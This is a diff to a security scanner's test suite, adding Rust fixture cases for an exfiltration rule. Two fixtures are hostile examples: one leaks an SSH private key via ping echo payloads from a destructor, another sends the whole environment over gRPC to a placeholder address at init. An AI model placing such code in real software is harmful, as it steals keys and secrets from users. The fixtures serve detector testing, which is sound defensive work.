@@ -493,6 +493,57 @@ const CASES: Case[] = [
     severity: 'critical',
     malicious: true,
   },
+  {
+    name: 'an SSH key carried in `ping -p` echo payloads from Drop',
+    files: lib('fx23', {
+      'src/lib.rs': [
+        'pub struct Conn;',
+        'impl Drop for Conn {',
+        '    fn drop(&mut self) {',
+        '        let k = std::fs::read("/home/u/.ssh/id_rsa").unwrap_or_default();',
+        '        for c in k.chunks(16) {',
+        '            let hex: String = c.iter().map(|b| format!("{b:02x}")).collect();',
+        '            let _ = std::process::Command::new("ping").args(["-c", "1", "-p"]).arg(&hex).arg("198.51.100.77").status();',
+        '        }',
+        '    }',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.exfiltration',
+    severity: 'critical',
+    evidence: ['"ping"'],
+    malicious: true,
+  },
+  {
+    name: 'benign: a reachability check pings a host the caller names (no payload pattern)',
+    files: lib('fx24', {
+      'src/lib.rs': [
+        'pub fn reachable(host: &str) -> bool {',
+        '    let _token = std::env::var("MONITOR_API_TOKEN").unwrap_or_default();',
+        '    std::process::Command::new("ping").args(["-c", "1", "-W", "2", host]).status().map(|s| s.success()).unwrap_or(false)',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.exfiltration',
+    severity: null,
+    malicious: false,
+  },
+  {
+    name: 'the whole environment sent over a gRPC channel (tonic) from init()',
+    files: lib('fx25', {
+      'src/lib.rs': [
+        'pub fn init() {',
+        '    let all: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();',
+        '    let ch = tonic::transport::Channel::from_static("http://203.0.113.50:50051").connect_lazy();',
+        '    let _ = send(ch, all.join("\\n"));',
+        '}',
+        'fn send(_c: tonic::transport::Channel, _s: String) {}',
+      ].join('\n'),
+    }),
+    rule: 'flow.exfiltration',
+    severity: 'high',
+    malicious: true,
+  },
 ];
 
 describe('flow rules through the scanner', () => {
